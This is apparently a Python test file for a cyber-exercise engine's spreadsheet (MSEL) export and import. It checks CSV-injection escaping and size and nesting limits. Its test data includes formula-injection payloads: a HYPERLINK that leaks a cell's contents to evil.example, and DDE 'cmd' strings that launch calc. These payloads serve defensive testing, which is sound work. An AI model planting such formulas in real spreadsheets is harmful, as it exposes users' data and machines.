"""Hostile and careless sheets (issue 11): formulas stay text, bounds refuse quickly.

* export: no cell a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``,
  a leading tab or carriage return: OWASP's CSV injection list) leaves sitroom
  unescaped; a leading apostrophe makes it text, as the report's CSV does, and
  the import reads it back, so the round trip stays exact; a negative number
  stays a number;
* import: a sheet of more than :data:`MAX_ROWS` rows, a cell of more than
  :data:`MAX_CELL` characters, YAML or JSON nested past the scenario loader's
  depth and a file of more than :data:`MAX_BYTES` are refused at their row and
  column (or the sheet's ``0:0``), before anything else is read.
"""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from engine.msel import export_csv, import_csv
from engine.msel.cells import escape_formula, unescape_formula
from engine.msel.report import Report
from engine.msel.sheet import MAX_BYTES, MAX_CELL, MAX_ROWS, read_rows
from engine.scenario import Scenario, load_bytes, load_file
from engine.scenario.yamlsrc import MAX_DEPTH

ROOT = Path(__file__).resolve().parents[2]
LIBRARY = sorted((ROOT / "scenarios").glob("*.yaml"))
EVERY_FEATURE = Path(__file__).resolve().parent / "data" / "every-feature.yaml"

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "=",
    "-",
    "'=already quoted",
    "''+quoted twice",
    "'Tis the season",
    "''",
]


def formula_like(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell``: OWASP's list, leading white space allowed.

    A negative number (``-2``) is a number to a spreadsheet, not a formula.
    """
    if re.fullmatch(r"-\d+(\.\d+)?", cell):
        return False
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


def cells_of(sheet: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(sheet, newline="")))


def hostile_scenario() -> Scenario:
    """Every kind of text cell holds a formula; a checklist item is worth -2; the seed is -5."""
    h = HOSTILE
    data: dict[str, Any] = {
        "id": "hostile",
        "title": h[0],
        "description": h[1],
        "version": h[3],
        "duration": "2h",
        "seed": -5,
        "start": "2025-02-11T09:00:00",
        "references": {"incidents": [h[2], h[12]]},
        "phases": [{"id": "p1", "title": h[4], "description": h[5]}],
        "objectives": [{"id": "obj", "title": h[6], "capability": h[7], "description": h[10]}],
        "teams": [{"id": "cert", "name": h[8], "role": h[9], "tags": [h[11]], "description": h[0]}],
        "actors": [{"id": "press", "name": h[10], "description": h[1]}],
        "injects": [
            {
                "id": "I-01",
                "at": "5m",
                "phase": "p1",
                "to": ["cert"],
                "channel": "email",
                "from": "press",
                "title": h[0],
                "body": h[1],
                "notes": h[2],
                "tags": [h[3], "plain"],
                "attachments": [{"name": h[4], "text": h[5]}],
                "expects": [
                    {
                        "id": "tick",
                        "kind": "checklist",
                        "objective": "obj",
                        "prompt": h[6],
                        "items": [
                            {"id": "good", "label": h[7], "points": 3},
                            {"id": "bad", "label": h[13], "points": -2},
                        ],
                    }
                ],
            },
            {
                "id": "I-02",
                "at": "10m250ms",
                "to": "all",
                "channel": "news",
                "from": "press",
                "title": h[11],
                "body": h[12],
                "notes": h[13],
            },
        ],
    }
    loaded = load_bytes(yaml.safe_dump(data, allow_unicode=True), "hostile.yaml")
    assert loaded.scenario is not None, [p.format() for p in loaded.problems]
    return loaded.scenario


def scenarios() -> list[tuple[str, Scenario]]:
    found = [(p.stem, load_file(p).require()) for p in [*LIBRARY, EVERY_FEATURE]]
    return [*found, ("hostile", hostile_scenario())]


# ------------------------------------------------------------------ export


@pytest.mark.parametrize(
    ("name", "scenario"), scenarios(), ids=lambda x: x if isinstance(x, str) else ""
)
def test_no_exported_cell_reads_as_a_formula(name: str, scenario: Scenario) -> None:
    for number, row in enumerate(cells_of(export_csv(scenario)), start=1):
        for col, cell in enumerate(row, start=1):
            assert not formula_like(cell), f"{name}:{number}:{col}: {cell[:40]!r}"


def test_hostile_cells_are_quoted_and_round_trip_exactly() -> None:
    original = hostile_scenario()
    sheet = export_csv(original)
    cells = [cell for row in cells_of(sheet) for cell in row]
    for text in ('=HYPERLINK("http://evil.example', "+cmd|", "@SUM(", "-2+3"):
        assert any(cell.startswith("'" + text) for cell in cells), text
    assert "'\t=1+1" in cells and "'\n=1+1" in cells
    assert "'Tis the season" in cells, "an apostrophe before plain text is left alone"
    assert "'''=already quoted" not in cells and "''=already quoted" in cells
    assert ["#seed", "-5"] in cells_of(sheet), "a negative number stays a number"
    result = import_csv(sheet.encode("utf-8"), "msel.csv")
    assert [p.format() for p in result.problems] == []
    assert result.scenario == original
    assert result.scenario.injects[0].expects[0].items[1].points == -2  # type: ignore[union-attr]
    assert export_csv(result.scenario) == sheet


@pytest.mark.parametrize("text", [*HOSTILE, "", "plain", "-2", "-0.5", "'", "'''x", "'-2"])
def test_escaping_reads_back_exactly(text: str) -> None:
    escaped = escape_formula(text)
    assert not formula_like(escaped)
    assert unescape_formula(escaped) == text


def test_an_apostrophe_a_spreadsheet_kept_is_read_as_the_escape() -> None:
    """Cells typed in a spreadsheet as ``'=1+1`` come back as ``=1+1``; ``'Tis`` stays."""
    sheet = (
        "#id,t\n#title,'=1+1\n#duration,1h\n#team,cert,'Tis\n#actor,press,Press\n"
        "Inject #,Time,Synopsis,From,To,Method,Notes\n"
        "I-1,T+5,'@SUM(A1),press,cert,email,'''-x\n"
    )
    result = import_csv(sheet.encode(), "msel.csv")
    assert [p.format() for p in result.problems] == []
    assert result.scenario is not None
    assert result.scenario.title == "=1+1"
    assert result.scenario.teams[0].name == "'Tis"
    assert result.scenario.injects[0].title == "@SUM(A1)"
    assert result.scenario.injects[0].notes == "''-x"


# ------------------------------------------------------------------ import bounds

META = "#id,t\n#title,T\n#duration,3h\n#team,cert,CERT\n#actor,press,Press\n"
HEADER = "Inject #,Time,Synopsis,From,To,Method,Body,When,Expectations,References,Tags\n"
HEADER_ROW = META.count("\n") + 1


def sheet_with(row: str) -> bytes:
    return (META + HEADER + row + "\n").encode()


def problems(raw: bytes | str) -> list[str]:
    result = import_csv(raw, "msel.csv")
    assert result.scenario is None
    return [p.format() for p in result.problems]


def test_the_bounds() -> None:
    assert (MAX_ROWS, MAX_CELL, MAX_BYTES) == (5_000, 32_767, 16 * 1024 * 1024)


def test_a_sheet_of_twenty_thousand_rows_is_refused_at_once() -> None:
    """It took 58 s and 537 MB; now the reader stops at the first row too many."""
    rows = "".join(f"X{k},T+{k % 600},Title {k},press,cert,email\n" for k in range(20_000))
    raw = (META + HEADER + rows).encode()
    began = time.perf_counter()
    result = import_csv(raw, "msel.csv")
    elapsed = time.perf_counter() - began
    assert [p.format() for p in result.problems] == [
        f"msel.csv:{MAX_ROWS + 1}:1: the sheet has more than {MAX_ROWS:,} rows: "
        "split the exercise into several scenarios"
    ]
    assert (result.scenario, result.injects, result.yaml) == (None, 0, "")
    assert elapsed < 5, f"{elapsed:.1f} s to refuse"


def test_a_sheet_of_the_most_rows_is_read_whole() -> None:
    """The bound itself: :data:`MAX_ROWS` rows are read, one more is refused."""
    most = "x,y\n" * MAX_ROWS
    rows = read_rows(most, Report("msel.csv"))
    assert rows is not None and len(rows) == MAX_ROWS
    report = Report("msel.csv")
    assert read_rows(most + "x,y\n", report) is None
    assert [p.format() for p in report.problems] == [
        f"msel.csv:{MAX_ROWS + 1}:1: the sheet has more than {MAX_ROWS:,} rows: "
        "split the exercise into several scenarios"
    ]


def test_a_cell_too_long_is_refused_at_its_row_and_column() -> None:
    body = "x" * (MAX_CELL + 1)
    assert problems(sheet_with(f"I-1,T+5,Long,press,cert,email,{body}")) == [
        f"msel.csv:{HEADER_ROW + 1}:7: this cell holds {MAX_CELL + 1:,} characters; "
        f"a cell holds at most {MAX_CELL:,} (as in Excel)"
    ]


def test_a_cell_of_the_most_characters_is_read() -> None:
    body = "x" * MAX_CELL
    result = import_csv(sheet_with(f"I-1,T+5,Long,press,cert,email,{body}"), "msel.csv")
    assert [p.format() for p in result.problems] == []
    assert result.scenario is not None and result.scenario.injects[0].body == body


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        (8, "[" * 5000 + "]" * 5000),
        (8, "{a: " * 3000 + "}" * 3000),
        (9, "- " * 5000 + "x"),
        (9, "[" * 300 + "]" * 300),
        (10, "{atlas: " + "[" * 5000 + "]" * 5000 + "}"),
        (11, "[" * 5000 + "]" * 5000),
        (5, "[" * 5000 + "]" * 5000),
    ],
    ids=["when-list", "when-map", "expectations-block", "expectations-300", "refs", "tags", "to"],
)
def test_a_deeply_nested_cell_is_refused_where_it_is(column: int, cell: str) -> None:
    row = ["I-1", "T+5", "Deep", "press", "cert", "email", "", "", "", "", ""]
    row[column - 1] = cell
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(row)
    found = problems(sheet_with(buffer.getvalue().rstrip("\n")))
    located = [line for line in found if line.startswith(f"msel.csv:{HEADER_ROW + 1}:{column}: ")]
    assert located, found
    assert any("nested" in line for line in located), located


def test_a_setting_nested_deep_is_read_as_text() -> None:
    deep = "[" * 5000 + "]" * 5000
    found = problems(
        META + f"#setting,flood_threshold,{deep}\n" + HEADER + "I-1,T+5,X,press,cert,email\n"
    )
    assert found and all(line.startswith("msel.csv:6:3: ") for line in found), found


def test_nesting_up_to_the_loaders_bound_round_trips() -> None:
    """A condition as deep as a scenario file may hold still exports and imports."""
    depth = (MAX_DEPTH - 6) // 2
    cond: dict[str, Any] = {"expectation": "I-01.d", "answered": True}
    for _ in range(depth):
        cond = {"not": cond}
    data = {
        "id": "deep",
        "title": "Deep",
        "duration": "1h",
        "teams": [{"id": "cert", "name": "CERT"}],
        "actors": [{"id": "press", "name": "Press"}],
        "injects": [
            {
                "id": "I-01",
                "at": "1m",
                "to": "cert",
                "channel": "email",
                "from": "press",
                "title": "First",
                "expects": [
                    {
                        "id": "d",
                        "kind": "decision",
                        "options": [
                            {"id": "a", "label": "A", "points": 1},
                            {"id": "b", "label": "B", "points": 0},
                        ],
                    }
                ],
            },
            {
                "id": "I-02",
                "at": "30m",
                "when": cond,
                "to": "cert",
                "channel": "email",
                "from": "press",
                "title": "Second",
            },
        ],
    }
    loaded = load_bytes(yaml.safe_dump(data), "deep.yaml")
    original = loaded.require()
    result = import_csv(export_csv(original).encode(), "msel.csv")
    assert [p.format() for p in result.problems] == []
    assert result.scenario == original


def test_a_sheet_too_large_is_refused_unread() -> None:
    raw = (META + HEADER).encode() + b"x" * MAX_BYTES
    assert problems(raw) == [
        "msel.csv:0:0: the sheet is too large (16.0 MiB; the limit is 16 MiB): "
        "split the exercise into several scenarios"
    ]


@pytest.mark.parametrize(
    ("time_cell", "message"),
    [
        ("D+31", "'D+31' is past 30 days (720:00:00), the latest exercise time"),
        ("T+" + "9" * 5000, "'T+999999999999999999'…: a number that long is not a time"),
    ],
    ids=["31 days", "5000 digits"],
)
def test_times_past_the_bound_are_refused_at_their_cell(time_cell: str, message: str) -> None:
    found = problems(sheet_with(f"I-1,{time_cell},X,press,cert,email"))
    assert len(found) == 1, found
    assert found[0].startswith(f"msel.csv:{HEADER_ROW + 1}:2: Time: ")
    assert message[-40:] in found[0]
